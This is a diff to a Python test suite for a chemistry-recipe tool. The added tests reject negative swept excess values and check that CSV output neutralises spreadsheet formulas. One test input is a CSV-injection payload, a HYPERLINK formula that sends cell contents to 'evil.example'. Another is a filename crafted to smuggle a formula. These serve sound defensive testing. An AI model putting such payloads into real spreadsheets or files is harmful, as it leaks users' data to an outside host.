@@ -24,7 +24,7 @@ from synth import catalog
 from synth.audit import validate
 from synth.errors import InputError, ReactionError, RecipeError, SynthError
 from synth.recipe import load, parse
-from synth.render.cells import FORMULA_START, cell
+from synth.render.cells import FORMULA_START, cell, comment
 from synth.units import AMBIGUOUS, Q_, parse as parse_quantity
 
 
@@ -339,6 +339,20 @@ def test_validate_reports_with_file_line_and_column(tmp_path, edit, where):
     assert len(problems) == 1 and problems[0].startswith(f"r.yaml:{line}:") and where in problems[0], problems
 
 
+@pytest.mark.parametrize("name, field", [("nitridation.gas.excess", "recipe.steps[1].gas.excess"),
+                                         ("leaching.acid.excess", "recipe.steps[2].acid.excess"),
+                                         ("recycling.synthesis.excess", "recipe.steps[3].synthesis.excess")])
+def test_a_swept_excess_below_zero_is_refused_where_it_is_read(name, field):
+    """The schema refuses a negative excess in the file; a sweep's values reach the steps, which read every excess
+    the same way (Spec.excess) and name the field."""
+    from synth.sweep import Range, sweep
+
+    recipe = load("ampsi")
+    with pytest.raises(RecipeError, match=re.escape(f"{field}: expected an excess of 0 or more (the surplus over "
+                                                    "what the reactions consume), found -0.1 to 0.1")):
+        sweep(recipe, [Range.parse(f"{name}=-10..10 %:3", recipe)])
+
+
 # 7. The Python API -----------------------------------------------------------------------------------------
 
 @pytest.mark.parametrize("call, argument", [
@@ -382,6 +396,14 @@ def test_no_cell_starts_a_formula(text):
     assert not out.startswith(FORMULA_START) and out.lstrip("'") in (text, text[1:]) and out.endswith(text)
 
 
+@given(st.text(max_size=40))
+def test_no_comment_line_holds_a_formula(text):
+    """A ``#`` provenance line stays one line, and no cell a spreadsheet splits it into starts a formula."""
+    line = comment(text)
+    assert line.startswith("# ") and line.count("\n") == 1 and line.endswith("\n") and len(line.splitlines()) == 1
+    assert not any(c.startswith(FORMULA_START) for c in next(csv.reader([line])))
+
+
 def test_sheet_csv_neutralises_recipe_text(capsys, tmp_path):
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
     path = recipe_file(tmp_path, AMPSI.replace('grade: {text: "powder, 200 mesh"', f"grade: {{text: '{evil}'"))
@@ -390,6 +412,36 @@ def test_sheet_csv_neutralises_recipe_text(capsys, tmp_path):
     assert code == 0 and ["'" + evil] == [c for r in rows for c in r if "HYPERLINK" in c]
     numbers = [c for r in rows for c in r if c[:1] == "-"]
     assert all(float(c) < 0 for c in numbers)  # negative numbers stay numbers
+
+
+def _text_cells_are_inert(path) -> list[list[str]]:
+    """The rows of a CSV file, after checking that every cell (those a spreadsheet splits the ``#`` lines into
+    too) is a number, empty, or text that starts no formula."""
+    rows = list(csv.reader(open(path, encoding="utf-8", newline="")))
+    for row in rows:
+        for c in row:
+            try:
+                float(c)
+            except ValueError:
+                assert not c.startswith(FORMULA_START), c
+    return rows
+
+
+@pytest.mark.parametrize("command", [("sweep", "--vary", "@leach.acid.excess=0..5 %:2"), ("uncertainty", "-n", "8")])
+def test_sweep_and_uncertainty_csv_neutralise_names_and_paths(capsys, tmp_path, command):
+    """A step id and a recipe path are user text: a step called '@leach' names the CSV's columns, and a comma in
+    the path would start a cell in the ``#`` provenance line."""
+    if command[0] == "uncertainty":
+        pytest.importorskip("SALib")
+    text = AMPSI.replace("id: leaching", 'id: "@leach"').replace("step: leaching", 'step: "@leach"')
+    path = recipe_file(tmp_path, text.replace("hcl: leaching", 'hcl: "@leach"'), "a,=1+1.yaml")
+    out = tmp_path / "out.csv"
+    code, _, err = run_cli(capsys, command[0], path, *command[1:], "-o", str(out))
+    assert code == 0, err
+    rows = _text_cells_are_inert(out)
+    header = next(row for row in rows if not row[0].startswith("#"))
+    assert any(c.startswith("'@leach.acid.excess") for c in header)
+    assert rows[0][0].startswith("# synth") and rows[0][1].startswith("'=1+1.yaml (sha256 ")  # the path's comma
 
 
 # 9. Messages -----------------------------------------------------------------------------------------------
